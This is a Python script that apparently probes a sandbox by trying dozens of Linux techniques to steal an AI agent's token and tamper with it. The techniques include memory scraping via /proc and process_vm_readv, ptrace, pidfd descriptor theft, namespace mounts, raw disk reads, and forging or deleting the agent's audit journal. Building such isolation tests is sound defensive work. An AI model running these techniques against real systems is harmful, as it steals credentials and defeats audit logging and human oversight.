"""A program that tries to get at an agent's token, and at what the agent keeps, by every way it knows.

Run as ``python -I -S thief.py <json>``; prints as JSON what each way gave: "found" (the token), "done"
(it could do what it must not), or why not. It needs nothing but the standard library, and does not know
the token: it knows it when it sees it.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import resource
import socket
import stat
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

TOKEN = re.compile(rb"mh-token-[0-9a-f]{32}")
MEMORY_BYTES_MAX = 256 * 1024 * 1024
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
CLONE_NEWNS, CLONE_NEWUSER, MS_BIND = 0x20000, 0x10000000, 4096
PR_GET_NO_NEW_PRIVS = 39

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.restype = LIBC.syscall.restype = ctypes.c_long

Way = Callable[[], bytes]


class Target:
    """What there is to steal, and from whom."""

    def __init__(self, told: dict[str, Any]) -> None:
        self.pid: int = told["pid"]
        self.token_file = Path(told["token_file"])
        self.state = Path(told["state"])
        self.playground = Path(told["playground"])  # where this program may make files
        self.code = Path(told["code"])  # what the agent runs next
        self.socket: str = told["socket"]  # abstract
        self.is_spared = bool(told.get("is_spared"))  # nothing is changed


def ways(target: Target) -> Iterator[tuple[str, Way]]:
    """Yield every way with its name: first those that only look, then those that change something."""
    proc = Path(f"/proc/{target.pid}")
    yield "environment", lambda: repr(dict(os.environb)).encode()
    yield "own descriptors", own_descriptors
    yield "token file", target.token_file.read_bytes
    yield "token file by ..", lambda: by_dots(target)
    yield "token file by a symbolic link", lambda: by_symlink(target)
    yield "token file by a hard link", lambda: by_hard_link(target)
    yield "token file by /proc/self/root", lambda: below(Path("/proc/self/root"), target.token_file)
    yield "token file by the agent's root", lambda: below(proc / "root", target.token_file)
    yield "token file by the agent's cwd", (proc / "cwd" / target.token_file.name).read_bytes
    yield "token file by its handle", lambda: by_handle(target.token_file)
    yield "token file in namespaces", lambda: in_namespaces(target)
    yield "journal", lambda: b"done" + journal_of(target).read_bytes()
    for name in ("environ", "cmdline", "auxv"):
        yield f"the agent's {name}", (proc / name).read_bytes
    yield "the agent's memory", lambda: memory_by_file(proc)
    yield "the agent's memory by vm_readv", lambda: memory_by_call(target.pid)
    yield "the agent's descriptors", lambda: foreign_descriptors(proc)
    yield "the agent's descriptors by pidfd", lambda: stolen_descriptors(target.pid)
    yield "ptrace", lambda: attached(target.pid)
    yield "other ancestors", lambda: from_ancestors(target.pid)
    yield "abstract socket", lambda: from_socket("\0" + target.socket)
    yield "socket in the state folder", lambda: from_socket(str(target.state / "control.sock"))
    yield "kernel log", lambda: read_once(Path("/dev/kmsg"))
    yield "kernel memory", lambda: read_once(Path("/proc/kcore"))
    yield "disks", disks
    yield "leave the control group", leave_control_group
    if target.is_spared:
        return
    yield "signal", lambda: done(os.kill, target.pid, 0)
    yield "become root", lambda: done(os.setuid, 0) if os.getuid() else b""
    yield "core pattern", lambda: done(open_to_write, Path("/proc/sys/kernel/core_pattern"))
    yield "cut the journal", lambda: done(cut, target, 3)
    yield "write the journal", lambda: done(lambda: open_to_write(journal_of(target)))
    yield "add to the journal", lambda: done((target.state / "journal" / "forged").write_bytes, b"x")
    yield "change the agent's code", lambda: done(open_to_write, target.code)
    yield "rename the journal", lambda: done(os.rename, target.state / "journal", target.state / "runs" / "j")
    yield "remove the journal", lambda: done(lambda: journal_of(target).unlink())
    yield "move the token file", lambda: by_rename(target)


def done(function: Callable[..., object], *arguments: object) -> bytes:
    """Do what must not work."""
    function(*arguments)
    return b"done"


def journal_of(target: Target) -> Path:
    """Return a file of the journal; names can be seen."""
    return max((target.state / "journal").iterdir())


def cut(target: Target, size_bytes: int) -> None:
    """Cut the journal."""
    os.truncate(journal_of(target), size_bytes)


def own_descriptors() -> bytes:
    """Read every descriptor that was inherited."""
    found = b""
    for path in list(Path("/proc/self/fd").iterdir()):
        if int(path.name) > 2:
            with contextlib.suppress(OSError):
                found += os.pread(int(path.name), 4096, 0)
    return found


def by_dots(target: Target) -> bytes:
    """Read the token by a path that goes up and down."""
    os.chdir(target.playground)
    return Path(os.path.relpath(target.token_file)).read_bytes()


def by_symlink(target: Target) -> bytes:
    """Read the token through a link of one's own."""
    link = target.playground / "link"
    link.symlink_to(target.token_file)
    return link.read_bytes()


def by_hard_link(target: Target) -> bytes:
    """Give the token's file a second name, and read that."""
    link = target.playground / "hard"
    os.link(target.token_file, link)
    return link.read_bytes()


def by_rename(target: Target) -> bytes:
    """Move the token's file to where one may read."""
    moved = target.playground / "moved"
    target.token_file.rename(moved)
    return moved.read_bytes()


def below(root: Path, path: Path) -> bytes:
    """Read a file through a magic link."""
    return (root / str(path).lstrip("/")).read_bytes()


def by_handle(path: Path) -> bytes:
    """Open a file by its handle, which follows no path (open_by_handle_at(2))."""
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.memmove(handle, (128).to_bytes(4, sys.byteorder), 4)
    mount = ctypes.c_int()
    check(LIBC.name_to_handle_at(-100, os.fsencode(path), handle, ctypes.byref(mount), 0))
    folder = os.open("/", os.O_RDONLY)
    opened = check(LIBC.open_by_handle_at(folder, handle, os.O_RDONLY))
    return os.read(opened, 4096)


def in_namespaces(target: Target) -> bytes:
    """Be root of a user namespace, and mount the token's folder elsewhere; in a copy of this process."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        said = b""
        try:
            flags = CLONE_NEWNS | (0 if os.getuid() == 0 else CLONE_NEWUSER)
            check(LIBC.unshare(flags))
            place = target.playground / "mounted"
            place.mkdir()
            check(LIBC.mount(os.fsencode(target.token_file.parent), os.fsencode(place), None, MS_BIND, None))
            said = (place / target.token_file.name).read_bytes()
        except OSError as exc:
            said = f"refused: {exc.strerror}".encode()
        finally:
            os.write(writing, said)
            os._exit(0)
    os.close(writing)
    said = os.read(reading, 4096)
    os.waitpid(pid, 0)
    if said.startswith(b"refused"):
        raise PermissionError(0, said.decode())
    return said


def memory_by_file(proc: Path) -> bytes:
    """Search the agent's memory through /proc."""
    with (proc / "mem").open("rb", buffering=0) as memory:
        for start, end in mapped(proc):
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                if found := TOKEN.search(memory.read(end - start)):
                    return found[0]
    return b""


def memory_by_call(pid: int) -> bytes:
    """Search the agent's memory by process_vm_readv(2)."""

    class Span(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))

    LIBC.process_vm_readv.restype = ctypes.c_ssize_t
    spans = mapped(Path(f"/proc/{pid}"), Path("/proc/self"))
    for start, end in spans:
        buffer = ctypes.create_string_buffer(end - start)
        here = Span(ctypes.addressof(buffer), end - start)
        there = Span(start, end - start)
        answer = LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        if answer < 0 and ctypes.get_errno() in {1, 13}:
            raise PermissionError(ctypes.get_errno(), "process_vm_readv")
        if answer > 0 and (found := TOKEN.search(buffer.raw)):
            return found[0]
    return b""


def mapped(*procs: Path) -> list[tuple[int, int]]:
    """Return where writable memory is, by the first of the maps that can be read."""
    for proc in procs:
        with contextlib.suppress(OSError):
            lines = (proc / "maps").read_text().splitlines()
            spans = [line.split()[0].split("-") for line in lines if "rw-p" in line]
            sized = [(int(start, 16), int(end, 16)) for start, end in spans]
            return [span for span in sized if span[1] - span[0] < MEMORY_BYTES_MAX]
    raise PermissionError(13, "maps")


def foreign_descriptors(proc: Path) -> bytes:
    """Open again what the agent has open."""
    found = b""
    for path in list((proc / "fd").iterdir()):
        if stat.S_ISREG(path.stat().st_mode):
            found += path.read_bytes()[:4096]
    return found


def stolen_descriptors(pid: int) -> bytes:
    """Copy the agent's descriptors (pidfd_getfd(2))."""
    pid_fd = check(LIBC.syscall(SYS_PIDFD_OPEN, pid, 0))
    found, refused = b"", None
    for number in range(3, 64):
        copy = LIBC.syscall(SYS_PIDFD_GETFD, pid_fd, number, 0)
        if copy < 0:
            refused = refused or (PermissionError(1, "refused") if ctypes.get_errno() == 1 else None)
            continue
        with contextlib.suppress(OSError):
            found += os.pread(copy, 4096, 0)
    if refused is not None:
        raise refused
    return found


def attached(pid: int) -> bytes:
    """Attach as a debugger does, and let go."""
    check(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0x40000000)
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return b"done"


def from_ancestors(pid: int) -> bytes:
    """Look into the environments of everybody above."""
    found = b""
    while pid > 1:
        with contextlib.suppress(OSError):
            found += Path(f"/proc/{pid}/environ").read_bytes()
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
    return found


def from_socket(address: str) -> bytes:
    """Ask whoever listens."""
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(5)
        sock.connect(address)
        return sock.recv(4096)


def read_once(path: Path) -> bytes:
    """Read the beginning of a special file; that it can be opened is too much."""
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return b"done" + os.read(descriptor, 64)
    finally:
        os.close(descriptor)


def disks() -> bytes:
    """Open a disk, whose blocks hold every file."""
    refused: OSError = FileNotFoundError(2, "no disks here")
    for entry in os.scandir("/dev"):
        if stat.S_ISBLK(entry.stat(follow_symlinks=False).st_mode):
            try:
                return read_once(Path(entry.path))
            except OSError as exc:
                refused = exc
    raise refused


def leave_control_group() -> bytes:
    """Open a file through which a process moves to a group above; move nowhere."""
    refused: OSError = FileNotFoundError(2, "no control groups here")
    root = Path("/sys/fs/cgroup")
    for path in [root / "cgroup.procs", *(inner / "cgroup.procs" for inner in root.iterdir())]:
        try:
            return done(open_to_write, path)
        except FileNotFoundError:
            continue
        except OSError as exc:
            refused = exc
    raise refused


def open_to_write(path: Path) -> None:
    """Open a file for writing, and write nothing."""
    os.close(os.open(path, os.O_WRONLY))


def check(answer: int) -> int:
    """Raise what a call said, if it failed."""
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def attempt(way: Way) -> str:
    """Try one way, and say what came of it."""
    try:
        got = way()
    except OSError as exc:
        return f"{type(exc).__name__}: {exc.strerror}"
    if TOKEN.search(got):
        return "found"
    return "done" if got.startswith(b"done") else "nothing"


def standing() -> dict[str, Any]:
    """Say what this process is allowed."""
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    return {
        "uids": os.getresuid(),
        "gids": os.getresgid(),
        "groups": sorted(os.getgroups()),
        "capabilities": int(status["CapEff"], 16) | int(status["CapPrm"], 16) | int(status["CapAmb"], 16),
        "bounding": int(status["CapBnd"], 16),
        "no_new_privs": LIBC.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0),
        "core_bytes": resource.getrlimit(resource.RLIMIT_CORE),
        "oom_score_adj": int(Path("/proc/self/oom_score_adj").read_text()),
    }


if __name__ == "__main__":
    told_by_agent = json.loads(sys.argv[1])
    if "pattern" in told_by_agent:
        TOKEN = re.compile(told_by_agent["pattern"].encode())
    target = Target(told_by_agent)
    told = {"standing": standing(), "ways": {name: attempt(way) for name, way in ways(target)}}
    sys.stdout.write(json.dumps(told))
